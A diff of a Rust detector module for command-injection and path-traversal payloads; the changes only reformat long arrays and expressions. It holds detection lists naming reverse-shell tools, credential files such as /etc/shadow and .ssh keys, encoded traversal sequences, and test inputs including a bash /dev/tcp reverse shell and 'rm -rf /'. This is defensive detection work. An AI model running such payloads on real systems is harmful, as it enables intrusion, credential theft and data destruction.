@@ -9,17 +9,112 @@ use crate::text::{contains_any, is_word};
 
 /// Commands that tell of a machine, or reach another: what a payload begins with.
 pub(crate) const COMMANDS: &[&str] = &[
-    "id", "whoami", "uname", "cat", "ls", "pwd", "ping", "nslookup", "dig", "host", "netstat", "ifconfig", "ipconfig", "ps",
-    "w", "hostname", "sleep", "wget", "curl", "nc", "ncat", "netcat", "telnet", "bash", "sh", "zsh", "/bin/sh", "/bin/bash", "/bin/cat",
-    "/bin/ls", "/usr/bin/id", "perl", "python", "python3", "ruby", "php", "powershell", "cmd", "cmd.exe", "dir", "type", "net", "tasklist", "systeminfo", "rm",
-    "chmod", "chown", "kill", "killall", "reboot", "shutdown", "halt", "mkfifo", "echo", "printenv", "env", "set", "ver",
-    "find", "grep", "awk", "sed", "touch", "ssh", "scp", "crontab", "useradd", "passwd", "timeout", "tftp", "ftp", "certutil", "reg", "which", "exec", "eval",
+    "id",
+    "whoami",
+    "uname",
+    "cat",
+    "ls",
+    "pwd",
+    "ping",
+    "nslookup",
+    "dig",
+    "host",
+    "netstat",
+    "ifconfig",
+    "ipconfig",
+    "ps",
+    "w",
+    "hostname",
+    "sleep",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "telnet",
+    "bash",
+    "sh",
+    "zsh",
+    "/bin/sh",
+    "/bin/bash",
+    "/bin/cat",
+    "/bin/ls",
+    "/usr/bin/id",
+    "perl",
+    "python",
+    "python3",
+    "ruby",
+    "php",
+    "powershell",
+    "cmd",
+    "cmd.exe",
+    "dir",
+    "type",
+    "net",
+    "tasklist",
+    "systeminfo",
+    "rm",
+    "chmod",
+    "chown",
+    "kill",
+    "killall",
+    "reboot",
+    "shutdown",
+    "halt",
+    "mkfifo",
+    "echo",
+    "printenv",
+    "env",
+    "set",
+    "ver",
+    "find",
+    "grep",
+    "awk",
+    "sed",
+    "touch",
+    "ssh",
+    "scp",
+    "crontab",
+    "useradd",
+    "passwd",
+    "timeout",
+    "tftp",
+    "ftp",
+    "certutil",
+    "reg",
+    "which",
+    "exec",
+    "eval",
 ];
 
 /// What a command is given only by somebody who attacks.
 const WANTED: &[&str] = &[
-    "/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group", "/dev/tcp/", "/dev/udp/", "-e /bin/", "-e cmd", "-i >&", "$(whoami)", "`whoami`", "win.ini", "boot.ini",
-    "/proc/self", "|sh", "| sh", "|bash", "| bash", "burpcollaborator", "interact.sh", "oast.", "/.ssh/", "rm -rf", "-enc", "downloadstring", "nslookup",
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/hosts",
+    "/etc/group",
+    "/dev/tcp/",
+    "/dev/udp/",
+    "-e /bin/",
+    "-e cmd",
+    "-i >&",
+    "$(whoami)",
+    "`whoami`",
+    "win.ini",
+    "boot.ini",
+    "/proc/self",
+    "|sh",
+    "| sh",
+    "|bash",
+    "| bash",
+    "burpcollaborator",
+    "interact.sh",
+    "oast.",
+    "/.ssh/",
+    "rm -rf",
+    "-enc",
+    "downloadstring",
+    "nslookup",
 ];
 
 /// `;`, `|`, `&`: a command follows. The site is the sign.
@@ -44,7 +139,25 @@ pub(crate) fn separator(site: &Site<'_, '_>) -> Verdict {
     text.charge(rest.len() * 4);
     // In an answer a command is shown, or not run; what an argument or the beginning of a value is, is.
     let wanted = contains_any(rest, WANTED);
-    let argument = matches!(text.byte(end), None | Some(b' ' | b'\n' | b';' | b'|' | b'&' | b'+' | b'%' | b'$' | b'<' | b'>' | b'\'' | b'"' | b'`' | b'#' | b')'));
+    let argument = matches!(
+        text.byte(end),
+        None | Some(
+            b' ' | b'\n'
+                | b';'
+                | b'|'
+                | b'&'
+                | b'+'
+                | b'%'
+                | b'$'
+                | b'<'
+                | b'>'
+                | b'\''
+                | b'"'
+                | b'`'
+                | b'#'
+                | b')'
+        )
+    );
     if !argument {
         return None;
     }
@@ -75,7 +188,11 @@ pub(crate) fn substitution(site: &Site<'_, '_>) -> Verdict {
     };
     let end = site.sources.command(text, text.skip_space(from))?;
     let mut close = end;
-    while close < from + 160 && text.byte(close).is_some_and(|byte| !matches!(byte, b'\n' | b'`' | b')')) {
+    while close < from + 160
+        && text
+            .byte(close)
+            .is_some_and(|byte| !matches!(byte, b'\n' | b'`' | b')'))
+    {
         close += 1;
     }
     let inside = text.slice(from, close);
@@ -110,28 +227,83 @@ pub(crate) fn known(site: &Site<'_, '_>) -> Verdict {
     let token = text.slice(site.start, site.end).to_ascii_lowercase();
     let (sure, confidence) = match token.as_slice() {
         b"bash -i" => (contains_any(rest, &["/dev/tcp/", "/dev/udp/"]), 0.95),
-        b"/dev/tcp/" => (text.byte(site.end).is_some_and(|byte| byte.is_ascii_digit() || byte == b'$' || is_word(byte)), 0.85),
-        b"nc " | b"ncat " | b"netcat " => (contains_any(rest, &["-e /bin", "-e sh", "-e cmd", "-c /bin", "-c sh", "-e bash"]), 0.93),
+        b"/dev/tcp/" => (
+            text.byte(site.end)
+                .is_some_and(|byte| byte.is_ascii_digit() || byte == b'$' || is_word(byte)),
+            0.85,
+        ),
+        b"nc " | b"ncat " | b"netcat " => (
+            contains_any(
+                rest,
+                &["-e /bin", "-e sh", "-e cmd", "-c /bin", "-c sh", "-e bash"],
+            ),
+            0.93,
+        ),
         b"rm -rf" | b"rm -fr" => {
             let what = text.skip_blank(site.end);
             let all = matches!(text.byte(what), Some(b'/' | b'*' | b'~')) && {
                 let next = text.byte(what + 1);
-                next.is_none_or(|byte| !is_word(byte) && byte != b'/' && byte != b'.') || text.starts(what, b"--no-preserve-root")
+                next.is_none_or(|byte| !is_word(byte) && byte != b'/' && byte != b'.')
+                    || text.starts(what, b"--no-preserve-root")
             } || text.starts(what, b"--no-preserve-root");
             (all, 0.75)
         }
-        b"mkfifo" => (contains_any(rest, &["nc ", "/bin/sh", "openssl s_client"]), 0.93),
+        b"mkfifo" => (
+            contains_any(rest, &["nc ", "/bin/sh", "openssl s_client"]),
+            0.93,
+        ),
         b":(){" | b":()" => (contains_any(rest, &[":|:"]), 0.93),
-        b"() {" => (text.before(site.start) != b')' && contains_any(rest, &[":;"]), 0.93),
-        b"powershell" => (contains_any(rest, &["-enc", "-e ", "downloadstring", "iex", "-w hidden", "bypass"]), 0.8),
+        b"() {" => (
+            text.before(site.start) != b')' && contains_any(rest, &[":;"]),
+            0.93,
+        ),
+        b"powershell" => (
+            contains_any(
+                rest,
+                &[
+                    "-enc",
+                    "-e ",
+                    "downloadstring",
+                    "iex",
+                    "-w hidden",
+                    "bypass",
+                ],
+            ),
+            0.8,
+        ),
         b"certutil" => (contains_any(rest, &["-urlcache"]), 0.85),
-        b"iex" => (contains_any(rest, &["downloadstring", "new-object net.webclient", "iwr"]), 0.85),
-        b"dd if=" => (contains_any(rest, &["of=/dev/sd", "of=/dev/nvme", "of=/dev/hd"]), 0.7),
+        b"iex" => (
+            contains_any(rest, &["downloadstring", "new-object net.webclient", "iwr"]),
+            0.85,
+        ),
+        b"dd if=" => (
+            contains_any(rest, &["of=/dev/sd", "of=/dev/nvme", "of=/dev/hd"]),
+            0.7,
+        ),
         b"mkfs" => (contains_any(rest, &["/dev/"]), 0.55),
         b"pty.spawn(" => (contains_any(rest, &["/bin/"]), 0.8),
-        b"curl " | b"wget " => (contains_any(rest, &["| sh", "|sh", "| bash", "|bash", "| sudo", "-d @/etc", "--post-file", "$(cat ", "`cat "]), 0.6),
+        b"curl " | b"wget " => (
+            contains_any(
+                rest,
+                &[
+                    "| sh",
+                    "|sh",
+                    "| bash",
+                    "|bash",
+                    "| sudo",
+                    "-d @/etc",
+                    "--post-file",
+                    "$(cat ",
+                    "`cat ",
+                ],
+            ),
+            0.6,
+        ),
         b"cat " => (contains_any(rest, &["/etc/shadow", "/.ssh/id_"]), 0.55),
-        b"base64 -d" => (contains_any(rest, &["| sh", "|sh", "| bash", "|bash"]), 0.85),
+        b"base64 -d" => (
+            contains_any(rest, &["| sh", "|sh", "| bash", "|bash"]),
+            0.85,
+        ),
         _ => (true, 0.7),
     };
     if !sure {
@@ -149,16 +321,43 @@ pub(crate) fn known(site: &Site<'_, '_>) -> Verdict {
 pub(crate) fn traversal(site: &Site<'_, '_>) -> Verdict {
     let text = site.text;
     const UPS: &[&[u8]] = &[
-        b"../", b"..\\", b"..%2f", b"..%5c", b"%2e%2e%2f", b"%2e%2e/", b"..%252f", b"%2e%2e%5c", b"..%c0%af", b"..%c1%9c", b"....//", b"..%255c", b"%252e%252e%252f", b".././", b"..;/", b"...//", b"..%u2215", b"%c0%ae%c0%ae/", b"..//", b"..\\\\",
+        b"../",
+        b"..\\",
+        b"..%2f",
+        b"..%5c",
+        b"%2e%2e%2f",
+        b"%2e%2e/",
+        b"..%252f",
+        b"%2e%2e%5c",
+        b"..%c0%af",
+        b"..%c1%9c",
+        b"....//",
+        b"..%255c",
+        b"%252e%252e%252f",
+        b".././",
+        b"..;/",
+        b"...//",
+        b"..%u2215",
+        b"%c0%ae%c0%ae/",
+        b"..//",
+        b"..\\\\",
     ];
     // Counted from the first of them only.
-    if text.behind(site.start, 3).ends_with(b"../") || text.behind(site.start, 3).ends_with(b"..\\") || matches!(text.before(site.start), b'.') {
+    if text.behind(site.start, 3).ends_with(b"../")
+        || text.behind(site.start, 3).ends_with(b"..\\")
+        || matches!(text.before(site.start), b'.')
+    {
         return None;
     }
     let mut at = site.start;
     let (mut ups, mut coded) = (0, false);
     for _ in 0..24 {
-        let Some(up) = UPS.iter().filter(|up| text.starts(at, up)).map(|up| up.len()).max() else {
+        let Some(up) = UPS
+            .iter()
+            .filter(|up| text.starts(at, up))
+            .map(|up| up.len())
+            .max()
+        else {
             break;
         };
         coded |= text.slice(at, at + up).contains(&b'%') || up > 3;
@@ -169,11 +368,39 @@ pub(crate) fn traversal(site: &Site<'_, '_>) -> Verdict {
         return None;
     }
     let from = at;
-    while at < from + 48 && text.byte(at).is_some_and(|byte| is_word(byte) || matches!(byte, b'/' | b'\\' | b'.' | b'-' | b'%' | b'~')) {
+    while at < from + 48
+        && text.byte(at).is_some_and(|byte| {
+            is_word(byte) || matches!(byte, b'/' | b'\\' | b'.' | b'-' | b'%' | b'~')
+        })
+    {
         at += 1;
     }
     let target = text.slice(from, at);
-    let wanted = contains_any(target, &["etc/passwd", "etc/shadow", "etc/hosts", "etc%2f", "etc\\", "win.ini", "boot.ini", "windows/", "windows\\", "winnt", "proc/self", ".ssh", "id_rsa", ".aws/", "system32", "etc/group", "var/log", ".env", "web.config", ".htpasswd"]);
+    let wanted = contains_any(
+        target,
+        &[
+            "etc/passwd",
+            "etc/shadow",
+            "etc/hosts",
+            "etc%2f",
+            "etc\\",
+            "win.ini",
+            "boot.ini",
+            "windows/",
+            "windows\\",
+            "winnt",
+            "proc/self",
+            ".ssh",
+            "id_rsa",
+            ".aws/",
+            "system32",
+            "etc/group",
+            "var/log",
+            ".env",
+            "web.config",
+            ".htpasswd",
+        ],
+    );
     let confidence = match (ups, wanted, coded) {
         (2.., true, _) | (1, true, true) => 0.9,
         (1, true, false) => 0.5,
@@ -197,7 +424,16 @@ mod tests {
         let read = Text::new(text.as_bytes());
         let sources = Sources::new().unwrap();
         let start = text.find(token).unwrap();
-        let site = Site { text: &read, sources: &sources, start, end: start + token.len(), languages: ANY, fenced: false, tool, offset: 0 };
+        let site = Site {
+            text: &read,
+            sources: &sources,
+            start,
+            end: start + token.len(),
+            languages: ANY,
+            fenced: false,
+            tool,
+            offset: 0,
+        };
         check(&site).map_or(0.0, |(confidence, _)| confidence)
     }
 
@@ -214,7 +450,14 @@ mod tests {
 
     #[test]
     fn commands_that_are_an_attack() {
-        assert!(look("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "bash -i", true, known) > 0.9);
+        assert!(
+            look(
+                "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+                "bash -i",
+                true,
+                known
+            ) > 0.9
+        );
         assert!(look("rm -rf / --no-preserve-root", "rm -rf", true, known) > 0.7);
         assert!(look("rm -rf ./target", "rm -rf", true, known) < 0.1);
         assert!(look("rm -rf /tmp/build", "rm -rf", true, known) < 0.1);
